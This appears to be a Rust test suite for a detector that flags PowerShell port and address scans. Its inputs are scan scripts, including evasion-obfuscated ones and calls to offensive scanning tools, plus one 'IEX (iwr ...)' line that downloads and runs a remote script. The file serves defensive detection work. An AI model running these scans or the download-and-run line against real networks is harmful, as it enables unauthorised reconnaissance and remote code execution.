//! Scripts as they are written, and what only looks like them.

#![allow(clippy::unwrap_used, clippy::panic)] // tests

use lapwing_event::Prefix;
use proptest::prelude::*;

use super::*;

const KEY: &str = "analytics.AN1057.ScanRateThreshold";

fn sign(script: &str) -> Option<Sign> {
    read(script, 20.0, KEY)
}

fn scan(script: &str) -> Tool {
    match sign(script) {
        Some(Sign::Scan(tool)) => tool,
        other => panic!("{other:?}: {script}"),
    }
}

fn connects(script: &str) -> String {
    match sign(script) {
        Some(Sign::Connects(what)) => what,
        other => panic!("{other:?}: {script}"),
    }
}

#[test]
fn a_loop_over_ports_or_addresses_is_a_scan() {
    for (script, count) in [
        (
            r#"1..1024 | % {echo ((new-object Net.Sockets.TcpClient).Connect("10.0.0.1",$_)) "Port $_ is open!"} 2>$null"#,
            1024.0,
        ),
        (
            r#"1..254 | ForEach-Object { Test-NetConnection -ComputerName "10.0.0.$_" -Port 445 }"#,
            254.0,
        ),
        ("foreach ($port in 1..100) { tnc 10.0.0.5 -Port $port }", 100.0),
        (
            "foreach($p in 20..45){\n  $t = New-Object System.Net.Sockets.TcpClient\n  $null = $t.ConnectAsync('10.0.0.9', $p)\n}",
            26.0,
        ),
        (
            "for ($i = 1; $i -le 254; $i++) { $ip = \"192.168.7.$i\"; Test-Connection -Count 1 -Quiet $ip }",
            254.0,
        ),
        (
            "$ports = 1..200\n$ports | foreach { $c = [System.Net.Sockets.TcpClient]::new(); $c.BeginConnect('srv', $_, $null, $null) }",
            200.0,
        ),
        (
            "$ports = '21','22','23','25','53','80','110','111','135','139','143','389','443','445','993','995','1433','1521','3306','3389'\nforeach ($h in $hosts) { foreach ($p in $ports) { $t = New-Object Net.Sockets.TcpClient; $t.ConnectAsync($h,$p) } }",
            20.0,
        ),
        (
            "function Knock($h, $p) { $c = New-Object Net.Sockets.TcpClient; try { $c.Connect($h, $p) } catch {} }\n1..50 | % { Knock 10.1.1.1 $_ }",
            50.0,
        ),
        (
            "$probe = { param($h, $p) (New-Object Net.Sockets.TcpClient).Connect($h, $p) }\nforeach ($p in 1..60) { Start-Job $probe -ArgumentList '10.0.0.1', $p }",
            60.0,
        ),
        ("(1..99).ForEach({ Test-NetConnection 10.0.0.4 -Port $_ })", 99.0),
        (
            "1..254 | % { \"10.9.8.$_\" } | % -Parallel { Test-Connection $_ -Count 1 } -ThrottleLimit 50",
            254.0,
        ),
        ("$p = 1\nwhile ($p -lt 500) { tnc srv -Port $p; $p++ }", 499.0),
        ("1..80 | %{ T`eSt-NetC`onnection srv -p`ort $_ }", 80.0),
        (
            "function Sweep([int]$First = 1, [int]$Last = 254) { for ($i = $First; $i -le $Last; $i++) { tnc \"10.0.0.$i\" -Port 22 } }",
            254.0,
        ),
        (
            "'21,22,23,25,53,80,110,111,135,139,143,389,443,445,993,995,1433,1521,3306,3389'.Split(',') | % { tnc srv -Port $_ }",
            20.0,
        ),
        (
            "using namespace System.Net.NetworkInformation\n1..254 | % { [System.Net.NetworkInformation.Ping]::new().SendPingAsync(\"10.0.0.$_\") }",
            254.0,
        ),
    ] {
        let tool = scan(script);
        assert_eq!((tool.measured, &*tool.key), ((count, 20.0), KEY), "{script}");
    }
}

#[test]
fn a_function_that_scans_is_known_where_it_is_called() {
    for (script, name) in [
        ("Invoke-Portscan -Hosts 10.0.0.0/24 -TopPorts 50", "Invoke-Portscan"),
        (
            "IEX (iwr http://x/y.ps1); invoke-portscan -StartAddress 10.0.0.1 -EndAddress 10.0.0.9",
            "Invoke-Portscan",
        ),
        (
            "Get-Content hosts.txt | Get-SQLInstanceScanUDPThreaded -Threads 20",
            "Get-SQLInstanceScanUDPThreaded",
        ),
        ("& 'C:\\t\\IPv4PortScan.ps1' -ComputerName 10.0.0.4", "IPv4PortScan"),
        (". .\\Invoke-Portscan.ps1", "Invoke-Portscan"),
        ("$found = Invoke-ARPScan -CIDR 192.168.1.0/24", "Invoke-ARPScan"),
    ] {
        let tool = scan(script);
        assert_eq!(tool.name, name, "{script}");
        assert_eq!(tool.evidence, format!("PowerShell script block calls {name}"));
    }
    let tool = scan("Invoke-Portscan -Hosts 10.0.0.0/24");
    assert_eq!(tool.targets.iter().map(Prefix::to_string).collect::<Vec<_>>(), ["10.0.0.0/24"]);
    let tool = scan(r#"1..254 | % { tnc "10.9.8.$_" -Port 445 }"#);
    assert_eq!(tool.targets.iter().map(Prefix::to_string).collect::<Vec<_>>(), ["10.9.8.0/24"]);
}

/// UP-14: what administrators do is no scan; it speaks for one that its process makes.
#[test]
fn up_14_one_check_is_no_scan() {
    for script in [
        "Test-NetConnection fileserver -Port 443",
        "tnc dc01 -Port 389 | Select TcpTestSucceeded",
        "while (-not (Test-NetConnection srv -Port 3389).TcpTestSucceeded) { Start-Sleep 5 }",
        "1..30 | % { Test-NetConnection srv -Port 443; Start-Sleep 60 }",
        "foreach ($s in Get-Content servers.txt) { Test-NetConnection $s -Port 443 }",
        "'dc01','dc02','fs01','fs02' | % { Test-Connection $_ -Count 1 }",
        "1..19 | % { tnc 10.0.0.1 -Port $_ }",
        "22,80,443 | % { tnc srv -Port $_ }",
        "$c = New-Object System.Net.Sockets.TcpClient('mail.corp', 25)",
        "function Invoke-Portscan { param($Hosts, $Ports) foreach ($p in $Ports) { (New-Object Net.Sockets.TcpClient).BeginConnect($Hosts, $p, $null, $null) } }",
    ] {
        connects(script);
    }
    assert_eq!(
        connects("function Invoke-Portscan { param($a) }"),
        "PowerShell script block defines Invoke-Portscan"
    );
}

#[test]
fn a_mention_is_nothing() {
    for script in [
        "Get-Process | Where-Object { $_.CPU -gt 100 }",
        "1..50 | % { Invoke-RestMethod \"https://api.example/items?page=$_\" }",
        "1..500 | % { $db.Connect($_) }",
        "# 1..1024 | % { Test-NetConnection srv -Port $_ }",
        "<# Invoke-Portscan -Hosts 10.0.0.0/24 #> Get-Date",
        "$bad = 'Invoke-Portscan', 'Invoke-ARPScan'; Select-String $bad $log",
        "Get-Help Test-NetConnection",
        "Get-Command Invoke-Portscan",
        "Start-MpScan -ScanType QuickScan",
        "",
    ] {
        assert_eq!(sign(script), None, "{script}");
    }
}

#[test]
fn what_was_made_to_be_slow_is_not() {
    for part in [
        "function a { ",
        "foreach ($a in $a) { tnc $a ",
        "$a = $a, ",
        "% { ",
        "| ",
        "(",
        "'",
        "$(",
        "@\"\n",
        "\n,",
        "1..2 | % { $a = \"$_\" ",
    ] {
        let script = format!("tnc net.sockets {}", part.repeat((256 << 10) / part.len()));
        sign(&script);
    }
}

proptest! {
    #[test]
    fn any_text_is_read(script in "(tnc |net\\.sockets |foreach|%|\\{|\\}|\\(|\\)|\\$[a-z_]|=|,|;|\\||\"|'|\\.\\.|[0-9]{1,6}|`|\n| |#|<#|@\"|\\PC){0,80}") {
        sign(&script);
        sign(&format!("scan {script}"));
    }
}
